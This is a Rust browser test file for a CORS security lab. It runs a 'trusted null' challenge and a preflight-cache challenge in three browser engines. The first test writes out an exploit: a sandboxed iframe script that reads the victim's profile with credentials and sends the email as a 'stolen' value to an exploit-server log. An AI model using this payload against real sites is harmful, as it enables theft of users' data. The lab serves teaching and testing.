//! The challenges whose lesson differs by engine, played through the page in each of them
//! (`cargo xtask test` runs this module in Chromium, Firefox and WebKit): what the page says
//! for this engine, and what this engine lets happen.

use std::time::Duration;

use e2e::Lab;
use shared::challenge::ChallengeId;

use crate::attacks::{last_seq, logged, open_as_victim, send, solved, start, stays_open, store_exploit};

/// Trusted `null`: the exploit page frames a sandboxed document (its origin opaque, its
/// requests `Origin: null`) that reads the victim's profile and reports to the exploit server.
/// The policy trusts `null` with credentials, so the answer is readable there; whether the
/// victim's cookie goes with the frame's request is the engine's call. Chromium and Firefox
/// count a sandboxed frame's request as third-party and, in their test settings, send no
/// cookie with it, whatever `SameSite=None` says (measured); WebKit sends it
/// (`CookieFacts::sends_none_cross_site`), once the cookie is kept at all: it drops a Secure
/// cookie set over `http://localhost`, so the page tells the person to switch Secure off.
#[tokio::test]
async fn trusted_null_is_solved_through_a_sandboxed_frame_where_the_engine_sends_it_the_cookie() {
    let lab = Lab::opened().await;
    let b = &lab.browser;
    let engine = b.engine;
    let id = ChallengeId::TrustedNull;
    start(&lab, id).await;

    // The page says what this engine needs for the victim's login to stick.
    let facts = engine.cookie_facts();
    if facts.keeps_secure_on_http_localhost {
        assert_eq!(b.text("[data-note='secure-cookie']").await, "", "{engine:?} keeps a Secure cookie on http://localhost");
    } else {
        b.wait_text("[data-note='secure-cookie']", |t| t.contains("Switch Secure off")).await;
        b.set_checked("#cookie-secure", false).await;
        lab.control_wait("/control/cookie", |c| c["secure"] == false && c["same_site"] == "None").await;
    }
    assert_eq!(send(&lab, "#login-cookie").await, "200 OK", "the victim's login");
    assert_eq!(send(&lab, "#profile-cookie").await, "200 OK", "the victim's cookie was kept");

    // The frame reports the status it read and the email, if any, to the exploit server by its
    // full address (a relative URL means nothing in an opaque origin).
    let log = format!("http://localhost:{}/log", lab.backend.site_addr.port());
    let exploit = format!(
        r#"<iframe sandbox="allow-scripts" srcdoc="<script>fetch('{api}/api/profile', {{credentials: 'include'}}).then(r => r.json().then(b => fetch('{log}?status=' + r.status + '&stolen=' + encodeURIComponent(b.user ? b.user.email : ''))));</script>"></iframe>"#,
        api = lab.backend.api
    );
    store_exploit(&lab, &exploit).await;
    let after = last_seq(&lab).await;
    // From the same site: the top page is the victim's own site, so only the frame is foreign.
    let playground = open_as_victim(&lab, "#exploit-open-same-site").await;
    b.switch_to(playground).await;
    let read = logged(&lab, after, "the frame's profile read", |e| e.path == "/api/profile" && !e.preflight && e.origin.as_deref() == Some("null")).await;
    let report = b.wait_text("#exploit-log li", |t| t.contains("/log?status=")).await;
    assert!(report.contains("Origin: null"), "the report came from the sandboxed frame: {report}");

    if facts.sends_none_cross_site {
        assert!(read.credentials.has_session(), "{engine:?} sends the cookie with the frame's read: {read:?}");
        assert!(report.contains("/log?status=200&stolen=a%40b.com"), "{report}");
        let proof = solved(&lab, id).await;
        assert_eq!(proof.entries, [read.seq]);
    } else {
        assert!(!read.credentials.has_session(), "{engine:?} keeps the cookie from a sandboxed frame's read: {read:?}");
        assert_eq!(read.status, 401, "{read:?}");
        // The policy let the frame read the refusal: nobody's email in it.
        assert!(report.contains("/log?status=401&stolen=") && !report.contains("a%40b.com"), "{report}");
        stays_open(&lab, id, &format!("the frame's read #{} without the cookie", read.seq)).await;
    }
    lab.browser.close().await;
}

/// One preflight for two bearer reads more than 6 s apart, which only the policy's max age
/// explains (without it every engine keeps a preflight's answer about 5 s). Each engine caps
/// the max age, and the page says this engine's cap; a minute is under every cap. The wait is
/// the scenario.
#[tokio::test]
async fn one_preflight_is_kept_by_this_engines_cache_under_the_pages_max_age() {
    let lab = Lab::opened().await;
    let b = &lab.browser;
    let engine = b.engine;
    let id = ChallengeId::OnePreflight;
    start(&lab, id).await;
    b.wait_text("[data-note='preflight-cache']", |t| t.contains(engine.max_age_cap_words())).await;
    assert!(engine.max_age_cap() >= 60, "{engine:?} keeps a minute");

    b.click("#policy details.editor summary").await;
    b.fill("#policy-max-age", "60").await;
    b.click("#policy-apply").await;
    lab.control_wait("/control/cors", |p| p["max_age"] == 60).await;
    assert_eq!(send(&lab, "#get-token").await, "200 OK");
    b.set_checked("#req-bearer", true).await;
    assert_eq!(send(&lab, "#send").await, "200 OK");
    tokio::time::sleep(Duration::from_millis(6_500)).await;
    assert_eq!(send(&lab, "#send-again").await, "200 OK");

    let proof = solved(&lab, id).await;
    let log = lab.server_log().await;
    let preflights: Vec<u64> = log.iter().filter(|e| e.preflight && e.path == "/api/profile").map(|e| e.seq).collect();
    assert_eq!(preflights.len(), 1, "{engine:?}: one preflight for both reads: {preflights:?}, proof {proof:?}");
    lab.browser.close().await;
}
